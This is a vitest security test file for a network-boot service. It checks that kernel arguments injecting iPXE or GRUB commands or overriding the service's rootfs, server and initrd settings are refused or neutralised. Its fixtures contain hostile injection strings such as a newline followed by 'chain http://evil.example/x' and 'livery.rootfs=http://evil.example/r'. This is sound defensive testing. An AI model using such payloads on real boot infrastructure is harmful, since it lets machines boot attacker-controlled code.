import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tftpVirtualFile } from '../../src/boot/index.js';
import { dumpTables, execRaw } from '../helpers/db-snapshot.js';
import { makeBundle, publishBundle } from '../helpers/bundle.js';
import { grubCommands, ipxeCommands } from '../helpers/loader-scripts.js';
import { startTestServer, type TestServer } from '../helpers/server.js';

/**
 * Kernel arguments are refused where they enter (machine create/update/import, a manifest at
 * publish) when they could change what the boot loader or the initrd does, and a stored value
 * that got in before that rule still cannot add a command or override livery's parameters.
 */
const MAC = '52:54:00:cc:00:01';
let s: TestServer;
let imageId: string;

beforeAll(async () => {
  s = await startTestServer();
  const { tar } = await makeBundle('minimal', '1.0', undefined, { kernelArgs: 'quiet' });
  imageId = ((await (await publishBundle(s, tar, '?channel=stable')).json()) as { id: string }).id;
  expect((await s.api('/v1/machines', { method: 'POST', json: { macs: [MAC], hostname: 'victim', ip: '127.0.0.1', image: { name: 'minimal' } } })).status).toBe(201);
});
afterAll(() => s.stop());

async function refused(path: string, init: Parameters<TestServer['api']>[1], error: RegExp) {
  const before = dumpTables(s.livery.cmdb);
  const res = await s.api(path, init);
  const body = (await res.json()) as { error: string; problems?: { line: number; error: string }[] };
  expect(res.status).toBe(400);
  expect([body.error, ...(body.problems ?? []).map((p) => `line ${p.line}: ${p.error}`)].join('\n')).toMatch(error);
  expect(dumpTables(s.livery.cmdb)).toEqual(before);
}

const BAD: [string, RegExp][] = [
  ['quiet\nchain http://evil.example/x', /kernelArgs: must be one line of printable characters/],
  ['quiet\tx', /kernelArgs: must be one line/],
  ['quiet livery.rootfs=http://evil.example/r livery.rootfs.sha256=00', /kernelArgs: livery\.rootfs, livery\.rootfs\.sha256: livery sets BOOTIF, initrd= and livery\.\* itself/],
  ['BOOTIF=01-00-00-00-00-00-01', /kernelArgs: BOOTIF: livery sets/],
  ['initrd=evil.img', /kernelArgs: initrd: livery sets/],
  ['Livery.Server=http://evil.example', /kernelArgs: Livery\.Server: livery sets/],
  ['ip=${net0/ip}', /kernelArgs: must not contain "\$\{" \(iPXE would expand it/],
];

describe('kernel arguments are refused where they enter', () => {
  it.each(BAD)('machine create and update refuse %j', async (args, error) => {
    await refused('/v1/machines', { method: 'POST', json: { macs: ['52:54:00:cc:00:02'], kernelArgs: args } }, error);
    await refused(`/v1/machines/${MAC}`, { method: 'PATCH', json: { kernelArgs: args } }, error);
  });

  it('CSV and JSON import refuse them with the row, and import nothing', async () => {
    const csv = `mac,hostname,kernel_args\n52:54:00:cc:00:03,ok-1,quiet\n52:54:00:cc:00:04,bad-1,livery.rootfs=http://evil.example/r\n`;
    await refused('/v1/machines/import', { method: 'POST', body: csv, headers: { 'content-type': 'text/csv' } }, /line 3: kernelArgs: livery\.rootfs: livery sets/);
    await refused('/v1/machines/import', { method: 'POST', json: [{ macs: ['52:54:00:cc:00:05'], kernelArgs: 'a\nchain http://evil.example/x' }] }, /kernelArgs: must be one line/);
  });

  it('a manifest with hostile kernel args is not published, and the catalog is unchanged', async () => {
    for (const kernelArgs of ['quiet\nchain http://evil.example/x', 'livery.rootfs=http://evil.example/r']) {
      const { tar } = await makeBundle('minimal', '6.6.6', undefined, { kernelArgs });
      await refused('/v1/images', { method: 'POST', body: new Uint8Array(tar), headers: { 'content-type': 'application/x-tar' } }, /\/kernelArgs: (must be one line|livery\.rootfs: livery sets)/);
    }
  });

  it('accepts ordinary arguments, including iPXE operators that are plain words to the kernel', async () => {
    const res = await s.api(`/v1/machines/${MAC}`, { method: 'PATCH', json: { kernelArgs: 'quiet dyndbg="file x.c +p" a;b' } });
    expect(res.status).toBe(200);
  });
});

describe('stored values that got in before the rules cannot take over the boot', () => {
  const store = (machineArgs: string, imageArgs = 'quiet') => {
    execRaw(s.livery.cmdb, 'UPDATE machines SET kernel_args = ? WHERE hostname = ?', machineArgs, 'victim');
    execRaw(s.livery.cmdb, 'UPDATE images SET kernel_args = ? WHERE id = ?', imageArgs, imageId);
  };
  afterAll(() => store(''));

  it('iPXE: `;`, `&&`, `||`, `#` and newlines in machine and image args add no command', async () => {
    store('a ; chain http://evil.example/m && shell || shell #x', 'quiet\nchain http://evil.example/i');
    const script = await (await fetch(`${s.url}/boot/${MAC}.ipxe`)).text();
    const { commands } = ipxeCommands(script);
    expect(commands.map((c) => c.argv[0])).toEqual(['echo', 'kernel', 'goto', 'initrd', 'goto', 'boot', 'goto', 'echo', 'sleep', 'chain']);
    const kernel = commands.find((c) => c.argv[0] === 'kernel')!.argv;
    expect(kernel.join(' ')).toContain('quiet chain http://evil.example/i a ; chain http://evil.example/m && shell || shell #x');
    expect(commands.filter((c) => c.argv[0] === 'chain').map((c) => c.argv.at(-1))).toEqual([`${s.url}/boot/${MAC}.ipxe`]);
  });

  it('GRUB over TFTP: `; linux (http,host)/k` stays an argument of the one linux command', async () => {
    store('x ; linux (http,evil.example)/k');
    const cfg = tftpVirtualFile(`grub/grub.cfg-01-${MAC.replaceAll(':', '-')}`, { ...s.livery, config: s.config })!.toString();
    const commands = grubCommands(cfg);
    // The template's one `if linux ...; then` (GRUB ends the condition at the `;` it wrote).
    const linux = commands.filter((c) => c.argv[0] === 'if' && c.argv[1] === 'linux');
    expect(linux).toHaveLength(1);
    expect(commands.filter((c) => c.argv[0] === 'linux')).toEqual([]);
    expect(linux[0]!.argv.slice(-4)).toEqual(['x', ';', 'linux', '(http,evil.example)/k']);
  });

  it("livery's own parameters in stored args are dropped, so the initrd sees livery's rootfs and checksum only", async () => {
    store('livery.rootfs=http://evil.example/r livery.rootfs.sha256=' + '0'.repeat(64) + ' nomodeset', 'livery.server=http://evil.example quiet');
    const explained = (await (await s.api(`/v1/machines/${MAC}/explain`)).json()) as { cmdline: string; reasons: string[] };
    const words = explained.cmdline.split(' ');
    expect(words.filter((w) => w.startsWith('livery.rootfs='))).toHaveLength(1);
    expect(words.filter((w) => w.startsWith('livery.server='))).toEqual([`livery.server=${s.url}`]);
    expect(explained.cmdline).not.toContain('evil.example');
    expect(words.slice(-2)).toEqual(['quiet', 'nomodeset']);
    expect(explained.reasons.join('\n')).toContain("ignored livery's own parameters in the kernel arguments of machine victim: livery.rootfs=http://evil.example/r");
    expect(explained.reasons.join('\n')).toContain(`ignored livery's own parameters in the kernel arguments of image ${imageId}: livery.server=http://evil.example`);
  });
});

describe('label keys and var names map to distinct metadata env variables', () => {
  it.each([
    ['labels', { 'a.b': '1', 'a-b': '2' }, /labels: keys "a\.b" and "a-b" would both be LIVERY_LABEL_A_B in the metadata env format; rename one/],
    ['labels', { rack: '1', RACK: '2' }, /labels: keys "rack" and "RACK" would both be LIVERY_LABEL_RACK/],
    ['vars', { foo: '1', FOO: '2' }, /vars: keys "foo" and "FOO" would both be LIVERY_VAR_FOO/],
  ])('refuses %s %j on create, update and import', async (field, map, error) => {
    await refused('/v1/machines', { method: 'POST', json: { macs: ['52:54:00:cc:00:06'], [field]: map } }, error);
    await refused(`/v1/machines/${MAC}`, { method: 'PATCH', json: { [field]: map } }, error);
    await refused('/v1/machines/import', { method: 'POST', json: [{ macs: ['52:54:00:cc:00:07'], [field]: map }] }, error);
  });

  it('a stored collision from before the rule exports neither key, and says so', async () => {
    execRaw(s.livery.cmdb, 'UPDATE machines SET labels = ? WHERE hostname = ?', JSON.stringify({ 'a.b': 'one', 'a-b': 'two', rack: 'r1' }), 'victim');
    const env = await (await fetch(`${s.url}/v1/metadata/${MAC}?format=env`)).text();
    expect(env).toContain("LIVERY_LABEL_RACK='r1'\n");
    expect(env).not.toContain('LIVERY_LABEL_A_B=');
    expect(env).toContain('# a.b, a-b would all be LIVERY_LABEL_A_B: not exported\n');
  });
});
